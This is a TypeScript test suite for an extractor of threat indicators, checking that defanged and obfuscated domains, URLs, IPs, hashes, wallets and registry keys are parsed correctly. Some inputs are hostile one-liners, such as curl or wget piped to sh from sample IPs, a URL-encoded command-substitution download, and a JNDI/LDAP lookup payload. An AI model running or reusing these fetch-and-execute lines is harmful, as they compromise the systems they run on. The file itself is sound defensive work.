import { findValues } from '../../../extractors/indicators/find/find-values.ts';
import { expect, test } from '../../support/test.ts';

/** Every way in which reports disguise a value, and what it reads as. */
const DEFANGED: [text: string, type: string, value: string][] = [
  ['evil[.]com', 'domain', 'evil.com'],
  ['evil(.)com', 'domain', 'evil.com'],
  ['evil{.}com', 'domain', 'evil.com'],
  ['evil<.>com', 'domain', 'evil.com'],
  ['evil[[.]]com', 'domain', 'evil.com'],
  ['evil[dot]com', 'domain', 'evil.com'],
  ['evil[DOT]com', 'domain', 'evil.com'],
  ['evil(dot)com', 'domain', 'evil.com'],
  ['evil[d]com', 'domain', 'evil.com'],
  ['evil [.] com', 'domain', 'evil.com'],
  ['evil[ . ]com', 'domain', 'evil.com'],
  ['evil (dot) com', 'domain', 'evil.com'],
  ['evil . com', 'domain', 'evil.com'],
  ['evil dot com', 'domain', 'evil.com'],
  ['evil[.com', 'domain', 'evil.com'],
  ['evil[.com]', 'domain', 'evil.com'],
  ['evil.]com', 'domain', 'evil.com'],
  ['evil.[com]', 'domain', 'evil.com'],
  ['evil[.][com]', 'domain', 'evil.com'],
  ['evil\\[.\\]com', 'domain', 'evil.com'],
  ['evil【.】com', 'domain', 'evil.com'],
  ['evil．com', 'domain', 'evil.com'],
  ['EVIL[.]COM', 'domain', 'evil.com'],
  ['cdn.evil[.]co.uk', 'hostname', 'cdn.evil.co.uk'],
  ['xn--80ak6aa92e[.]com', 'domain', 'xn--80ak6aa92e.com'],
  ['дом[.]рф', 'domain', 'дом.рф'],
  ['hxxp://evil[.]com/a', 'url', 'http://evil.com/a'],
  ['hXXps://evil[.]com/a', 'url', 'https://evil.com/a'],
  ['HXXPS://EVIL[.]COM/Path', 'url', 'https://evil.com/Path'],
  ['hxxp[:]//evil[.]com/a', 'url', 'http://evil.com/a'],
  ['hxxps[:]//evil.com/a', 'url', 'https://evil.com/a'],
  ['http[:]//evil.com', 'url', 'http://evil.com'],
  ['https[://]evil.com/', 'url', 'https://evil.com/'],
  ['hxxp[://]evil[.]com/', 'url', 'http://evil.com/'],
  ['hxxps:[//]evil[.]com/x', 'url', 'https://evil.com/x'],
  ['hxxp[:/]/evil[.]com/x', 'url', 'http://evil.com/x'],
  ['hxxp[:][/][/]evil[.]com/x', 'url', 'http://evil.com/x'],
  ['hxxp[s]://evil[.]com/x', 'url', 'https://evil.com/x'],
  ['hxxp(s)://evil[.]com/x', 'url', 'https://evil.com/x'],
  ['h**p://evil.com/a', 'url', 'http://evil.com/a'],
  ['hxtp://evil.com/a', 'url', 'http://evil.com/a'],
  ['htxp://evil.com/a', 'url', 'http://evil.com/a'],
  ['h[tt]p://evil.com/a', 'url', 'http://evil.com/a'],
  ['htt[p]://evil.com/a', 'url', 'http://evil.com/a'],
  ['meow://evil.com/a', 'url', 'http://evil.com/a'],
  ['hxxp:\\\\evil[.]com', 'url', 'http://evil.com'],
  ['hxxp:// 45.9.148[.]1/x', 'url', 'http://45.9.148.1/x'],
  ['hxxp://evil . com', 'url', 'http://evil.com'],
  ['fxp://evil[.]com/a', 'url', 'ftp://evil.com/a'],
  ['tcp[:]//evil[.]com:443', 'url', 'tcp://evil.com:443'],
  ['hxxp://evil[.]com/gate[.]php', 'url', 'http://evil.com/gate.php'],
  ['hxxr://evil[.]com/a', 'url', 'http://evil.com/a'],
  ['https\\[:]//evil[.]com/a', 'url', 'https://evil.com/a'],
  ['heron @ pier-thrush . biz', 'email', 'heron@pier-thrush.biz'],
  ['evil[.]com/a.sh', 'url', 'evil.com/a.sh'],
  ['evil[.]com:8080/path', 'url', 'evil.com:8080/path'],
  ['45[.]9[.]148[.]1', 'ipv4', '45.9.148.1'],
  ['45.9.148[.]1', 'ipv4', '45.9.148.1'],
  ['45.9.148[.1', 'ipv4', '45.9.148.1'],
  ['45(.)9(.)148(.)1', 'ipv4', '45.9.148.1'],
  ['45[.]9[.]148[.]1:8080', 'ip-port', '45.9.148.1:8080'],
  ['45.9.148.1[:]8080', 'ip-port', '45.9.148.1:8080'],
  ['45[.]9[.]148[.]0/24', 'cidr', '45.9.148.0/24'],
  ['45[.]9[.]148[.]0[/]24', 'cidr', '45.9.148.0/24'],
  ['a[@]evil[.]com', 'email', 'a@evil.com'],
  ['a[at]evil[.]com', 'email', 'a@evil.com'],
  ['a(at)evil(dot)com', 'email', 'a@evil.com'],
  ['a@evil[.]com', 'email', 'a@evil.com'],
  ['First.Last [at] evil [dot] com', 'email', 'first.last@evil.com'],
  ['someone at evil dot com', 'email', 'someone@evil.com'],
  ['hxxps[:]\\\\evil[.]com\\a\\b.exe', 'url', 'https://evil.com/a/b.exe'],
  ['hxxp[:]/evil[.]com/a', 'url', 'http://evil.com/a'],
  ['hxxp://45.9.148[.]1 :8080/a', 'url', 'http://45.9.148.1:8080/a'],
  ['http://evil[.]com :8080/a', 'url', 'http://evil.com:8080/a'],
  ['key.back @ proton . me', 'email', 'key.back@proton.me'],
];

test('defanged values are refanged, whatever the habit', () => {
  for (const [text, type, value] of DEFANGED) {
    const found = findValues(`See ${text} now`);
    expect
      .soft(
        found.map((one) => [one.type, one.value, one.defanged]),
        text,
      )
      .toEqual([[type, value, true]]);
    expect.soft(found[0]?.raw, text).toBe(text);
  }
});

const PLAIN: [text: string, values: string[]][] = [
  // Ends of URLs.
  ['(http://evil.com/a(b)).', ['http://evil.com/a(b)']],
  ['"http://evil.com/a","http://evil.com/b"', ['http://evil.com/a', 'http://evil.com/b']],
  ['‘http://evil.com/a’, “http://evil.com/b”', ['http://evil.com/a', 'http://evil.com/b']],
  ["'http://evil.com/a'", ['http://evil.com/a']],
  ['<http://evil.com/a>', ['http://evil.com/a']],
  // What looks like a hash in the path of an address without a scheme; a site's page on a sample names the sample.
  ['evil[.]com/737c7e24b8e7f9adc7641f24c704aa01/gate.php', ['evil.com/737c7e24b8e7f9adc7641f24c704aa01/gate.php']],
  ['192.0.2.7:81/u/737c7e24b8e7f9adc7641f24c704aa01.php', ['192.0.2.7:81/u/737c7e24b8e7f9adc7641f24c704aa01.php']],
  ['evil.com/?id=737c7e24b8e7f9adc7641f24c704aa01&x=1', ['evil.com/?id=737c7e24b8e7f9adc7641f24c704aa01&x=1']],
  ['bazaar.abuse.ch/sample/737c7e24b8e7f9adc7641f24c704aa01/', ['737c7e24b8e7f9adc7641f24c704aa01']],
  ['drop.exe/737c7e24b8e7f9adc7641f24c704aa01', ['drop.exe', '737c7e24b8e7f9adc7641f24c704aa01']],
  ['http://evil.com/a; then', ['http://evil.com/a']],
  ['http://evil.com/a?', ['http://evil.com/a']],
  [
    'http://evil.com/?a=1&b=& http://evil.com/a.sh& http://evil.net/b&&sh b',
    ['http://evil.com/?a=1&b=&', 'http://evil.com/a.sh', 'http://evil.net/b'],
  ],
  ['hxxp://evil[.]com /a/b.exe\nwget hxxp://evil[.]net /a now', ['http://evil.com/a/b.exe', 'http://evil.net']],
  ['http://evil.com/a!', ['http://evil.com/a']],
  ['http://evil.com/a…', ['http://evil.com/a']],
  ['http://evil.com/a...', ['http://evil.com/a']],
  ['http://evil.com/a’s gate', ['http://evil.com/a']],
  ['http://evil.com:', ['http://evil.com']],
  ['http://evil.com:8080.', ['http://evil.com:8080']],
  ['http://evil.com/a|http://evil.net/b', ['http://evil.com/a', 'http://evil.net/b']],
  ['#http://evil.com/a.php#http://evil.net/b.php#15', ['http://evil.com/a.php', 'http://evil.net/b.php']],
  ['http://evil.com/xhttp://evil.net/y', ['http://evil.com/x', 'http://evil.net/y']],
  ['http://evil.com/r?to=http://evil.net/y', ['http://evil.com/r?to=http://evil.net/y']],
  ['http://evil.com/a,2023-01-01,loader', ['http://evil.com/a']],
  ['http://evil.com/a,b', ['http://evil.com/a,b']],
  ['wget http://45.9.148.1/a;chmod +x a', ['http://45.9.148.1/a']],
  ['wget http://45.9.148.1/a&&sh a', ['http://45.9.148.1/a']],
  ['http://evil.com/a;jsessionid=1', ['http://evil.com/a;jsessionid=1']],
  ['http://evil.com/?a=1&b=2,3#top', ['http://evil.com/?a=1&b=2,3#top']],
  ['http://evil.com/%s/{id}/x', ['http://evil.com/%s/{id}/x']],
  ['$' + '{jndi:ldap://evil.com:1389/a}', ['ldap://evil.com:1389/a']],
  ['Ports:5001/5005https://evil.com/a', ['https://evil.com/a']],
  ['{"u":"http:\\/\\/evil.com\\/a"}', ['http://evil.com/a']],
  ['http://user:pw@evil.com/x', ['http://user:pw@evil.com/x']],
  ['http://[2a03:b0c0:1:d0::1]/x', ['http://[2a03:b0c0:1:d0::1]/x']],
  ['http://EVIL.com/Path/CaseMatters', ['http://evil.com/Path/CaseMatters']],
  // URLs without scheme.
  ['curl 45.9.148.1/a.sh | sh', ['45.9.148.1/a.sh']],
  ['45.9.148.1:8080/a', ['45.9.148.1:8080/a']],
  ['evil.com/a/b.php', ['evil.com/a/b.php']],
  ['evil[.]com/other[.]net', ['evil.com', 'other.net']],
  ['45.9.148.1/45.9.148.2', ['45.9.148.1', '45.9.148.2']],
  ['tcp/45.9.148.1/4443', ['45.9.148.1:4443']],
  ['45.9.148[.]1 / .26 / .36', ['45.9.148.1', '45.9.148.26', '45.9.148.36']],
  ['grew by 45.9.148.1 and .26', ['45.9.148.1']],
  ['45.9.148[.]1:443/8443.', ['45.9.148.1:443', '45.9.148.1:8443']],
  ['skips 45.9.148.1/99', ['45.9.148.1']],
  ['defanged with [.] to prevent clicks; use `[.]` no lugar; plover [.] biz and a [.] plover [.] com', ['plover.biz', 'a.plover.com']],
  ['an attacker-controlled @pier-thrush[.]biz address', []],
  ['hosts:\npier-thrush .biz\nplover. biz\nand so on. Biz is good', ['pier-thrush.biz', 'plover.biz']],
  [
    'https://www.virustotal.com/gui/file/0a0c43726fd256ad827f4108bdf5e772[0a0c43726fd256ad827f4108bdf5e772]',
    ['https://www.virustotal.com/gui/file/0a0c43726fd256ad827f4108bdf5e772', '0a0c43726fd256ad827f4108bdf5e772'],
  ],
  ['evil.com:443/tcp', ['evil.com']],
  ['<script src="//evil.com/x.js">', ['evil.com/x.js']],
  ['?u=http%3A%2F%2Fevil.com%2Fa', ['http://evil.com/a']],
  ['hxxp[:]//evil[.]com[:]8080/x', ['http://evil.com:8080/x']],
  ['*.evil[.]com, -evil.net, [evil.org]', ['evil.com', 'evil.net', 'evil.org']],
  ['aabb[.]bazar', ['aabb.bazar']],
  // Onion names of any length.
  ['http://dusk.onion/a and expyuzz4wqqyqhjn.onion', ['http://dusk.onion/a', 'expyuzz4wqqyqhjn.onion']],
  ['2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion', ['2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion']],
  // Scripts that glue.
  ['주소는 hxxp://evil[.]com/b.php로 접속', ['http://evil.com/b.php']],
  ['通信先はevil[.]comです。', ['evil.com']],
  ['下载地址：http://evil.com/a，以及http://evil.net/b。', ['http://evil.com/a', 'http://evil.net/b']],
  ['http://evil.com/견적서.zip', ['http://evil.com/견적서.zip']],
  ['пример.рф', ['пример.рф']],
  // Invisible characters and escapes.
  ['e\u200bvil.c\u00adom', ['evil.com']],
  ['bad\\_host.evil\\.com', ['bad_host.evil.com']],
  ['CVE‑2021‑44228, CVE–2021–45046, cve-2021-45105', ['CVE-2021-44228', 'CVE-2021-45046', 'CVE-2021-45105']],
  // Addresses.
  ['45.9.148.1-45.9.148.9', ['45.9.148.1', '45.9.148.9']],
  ['$(wget%20http%3A%2F%2F91.215.85.61%2Fmips%20-O-%7Csh)', ['http://91.215.85.61/mips']],
  ['https://a.b-lantern.net/r?u=https%3A%2F%2Fc.b-lantern.net%2Fx', ['https://a.b-lantern.net/r?u=https%3A%2F%2Fc.b-lantern.net%2Fx']],
  ['“hxxp://b-lantern[.]com/c.php?u=1&”', ['http://b-lantern.com/c.php?u=1&']],
  ['write to data.back AT cock.li or look at gmail.com', ['data.back@cock.li', 'gmail.com']],
  ['ip route 91.215.85.61 255.255.255.255 Null0 and 91.215.85.62/32', ['91.215.85.61', '91.215.85.62']],
  ['2a03:b0c0:1:d0::1 and 2a03:b0c0::/32', ['2a03:b0c0:1:d0::1', '2a03:b0c0::/32']],
  ['185.100.87.202.', ['185.100.87.202']],
  ['root@45.9.148.1:/tmp', ['45.9.148.1']],
  ['\\\\45.9.148.1\\share\\a.dll', ['45.9.148.1', 'a.dll']],
  // Hashes and their labels.
  ['MD5:0A0C43726FD256AD827F4108BDF5E772', ['0a0c43726fd256ad827f4108bdf5e772']],
  [
    'SHA2560a0c43726fd256ad827f4108bdf5e7720a0c43726fd256ad827f4108bdf5e772',
    ['0a0c43726fd256ad827f4108bdf5e7720a0c43726fd256ad827f4108bdf5e772'],
  ],
  [
    'd3a2c81b2f9a4e6c71f0b5d2\n8e4c6a7f90b1c2d3e4f5a6b7\n1122334455667788',
    ['d3a2c81b2f9a4e6c71f0b5d28e4c6a7f90b1c2d3e4f5a6b71122334455667788'],
  ],
  // Techniques.
  ['T1059, T1059.001, T1566/002; TA0002', ['T1059', 'T1059.001', 'T1566.002']],
  // Networks.
  ['AS12345 and ASN 64500', ['AS12345', 'AS64500']],
  // Masks and placeholders.
  ['pa●●rt.com k░░e.net s-----d.no v-REDACTED.com mail.REDACTED.com vpn.xxxxx[.]co[.]uk', []],
  ['68006100720062006f0075007200 6861726220646f6f723a20636c6f736564 206d6f6f72696e6773', []],
  ['%ls.evil.com REDACTED.evil[.]net r3---sn-evil.org C2●evil.biz', ['evil.com', 'evil.net', 'r3---sn-evil.org', 'evil.biz']],
  // A host and its address, not a call; a name of the web below a word.
  ['evil.com(45.9.148.1:22) and window.open(1.2)', ['evil.com', '45.9.148.1:22']],
  ['45.9.148.1（www.gull.fit）', ['45.9.148.1', 'www.gull.fit']],
  // Captures of traffic.
  ['IP 45.9.148.2.https > c2.evil.net.http: Flags [S]', ['45.9.148.2:443', 'c2.evil.net']],
];

test('plain values end where they end', () => {
  for (const [text, values] of PLAIN) {
    expect
      .soft(
        findValues(text).map((one) => one.value),
        text,
      )
      .toEqual(values);
  }
});

/** Dotted words and hex that are not values at all. */
const NOTHING = [
  'json.Marshal(x); System.Net.WebClient',
  'e.g. this, i.e. that, in the U.S. and U.K.',
  'README.md, install.sh, setup.py, libc.so, main.rs',
  'id.services, os.name, module.run(), window.open, this.id',
  'ASP.NETs and Foo.Bar',
  'version 2019.07.31.08 of 2023.10.12.1 and 1.2.3',
  'OID 1.3.6.1.4.1.311.2.1.12',
  'at 10:20:30, std::string, dead::beef, aa:bb:cc:dd:ee:ff',
  '{550e8400-e29b-41d4-a716-446655440000}',
  '00000000000000000000000000000000',
  '12345678901234567890123456789012',
  '0x0a0c43726fd256ad827f4108bdf5e772',
  'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  'com.example.app and org.apache.commons.io',
  '-----BEGIN PUBLIC KEY----- MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDa+whJSxr9ngcD1T5GmjDNSUEY',
  'Trojan/Linux.Agent.8456 and HackTool/Linux.LogWiper.22272',
  'AS400, T1000, T12, T10591',
  '256.1.1.1 and 1.2.3 and 01.02.03.04',
  'was done.The next',
];

test('what only looks like a value is none', () => {
  for (const text of NOTHING) {
    const names = findValues(text).filter((one) => one.type !== 'filename');
    expect
      .soft(
        names.map((one) => `${one.type} ${one.value}`),
        text,
      )
      .toEqual([]);
  }
});

test('weak finds come with their reason when asked for', () => {
  const weak = findValues('call id.services in README.md', { doubtful: true });
  expect(weak.map(({ value, doubtReason: why }) => [value, why !== undefined])).toEqual([
    ['id.services', true],
    ['README.md', true],
  ]);
});

const SYSTEM: [text: string, type: string, value: string][] = [
  ['C:\\Users\\Public\\svc host.exe runs', 'filepath', 'C:\\Users\\Public\\svc host.exe'],
  ['%APPDATA%\\Micro\\a.dll.', 'filepath', '%APPDATA%\\Micro\\a.dll'],
  ['$env:TEMP\\x.ps1', 'filepath', '$env:TEMP\\x.ps1'],
  ['/tmp/.x/run.sh,', 'filepath', '/tmp/.x/run.sh'],
  ['C:\\Users\\x\\.ssh\\id', 'filepath', 'C:\\Users\\x\\.ssh\\id'],
  ['HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run', 'regkey', 'HKCU\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run'],
  ['HKEY_LOCAL_MACHINE\\SYSTEM\\Setup', 'regkey', 'HKEY_LOCAL_MACHINE\\SYSTEM\\Setup'],
  ['a mutex named “moth-5f1c”', 'mutex', 'moth-5f1c'],
  ['Global\\WindowsSvchost', 'mutex', 'Global\\WindowsSvchost'],
  ['It is Global\\cw_7731. It stays.', 'mutex', 'Global\\cw_7731'],
  ['payload.exe', 'filename', 'payload.exe'],
  ['imphash: 0a0c43726fd256ad827f4108bdf5e772', 'imphash', '0a0c43726fd256ad827f4108bdf5e772'],
  ['JA3 0a0c43726fd256ad827f4108bdf5e772', 'ja3', '0a0c43726fd256ad827f4108bdf5e772'],
  ['3:jT81L9RUjD+rlczyX837QTa0NDO9Z8:c1JRID+pc2XS7Ga0yYgC3', 'ssdeep', '3:jT81L9RUjD+rlczyX837QTa0NDO9Z8:c1JRID+pc2XS7Ga0yYgC3'],
];

test('paths, keys, mutexes and named hashes are typed', () => {
  for (const [text, type, value] of SYSTEM) {
    expect.soft(findValues(text).map((one) => [one.type, one.value])[0], text).toEqual([type, value]);
  }
});

test('wallets count only with a valid checksum', () => {
  const valid: [string, string][] = [
    ['btc', '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'],
    ['btc', '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'],
    ['btc', 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'],
    ['btc', 'bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0'],
    ['eth', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ['eth', '0xde709f2102306220921060314715629080e2fb77'],
    ['xmr', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'],
  ];
  for (const [type, address] of valid) {
    expect.soft(findValues(`pay ${address}.`).map((one) => [one.type, one.value])).toEqual([[type, address]]);
    const at = Math.floor(address.length / 2);
    const broken = `${address.slice(0, at)}${address[at] === 'a' ? 'c' : 'a'}${address.slice(at + 1)}`;
    if (address !== address.toLowerCase() || type === 'btc') expect.soft(findValues(`pay ${broken}.`), broken).toEqual([]);
  }
});

test('offsets lead back to what the author wrote', () => {
  const text = 'a ‘hxxps[:]//cdn[.]evil[.]com/a’, 45[.]9[.]148[.]1:80; x [at] evil [dot] com — e\u200bvil[.]net.';
  for (const one of findValues(text)) expect(text.slice(one.start, one.end)).toBe(one.raw);
  expect(findValues(text)).toHaveLength(4);
});
